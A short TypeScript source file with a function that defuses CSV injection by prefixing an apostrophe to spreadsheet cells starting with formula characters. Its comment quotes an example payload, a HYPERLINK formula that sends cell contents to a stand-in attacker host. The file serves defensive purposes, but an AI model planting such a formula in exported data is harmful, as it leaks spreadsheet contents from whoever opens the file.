/**
 * A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return, which some
 * programs skip before reading the formula) as a formula: a note or a display name such as
 * `=HYPERLINK("https://evil.example/?"&A1)` would leak the sheet or run code on the organizer's
 * machine (CSV injection). Such a cell gets a leading apostrophe, which spreadsheets show as text.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function defuseCell(value: string | null | undefined): string {
  const text = value ?? '';
  return FORMULA_START.test(text) ? `'${text}` : text;
}
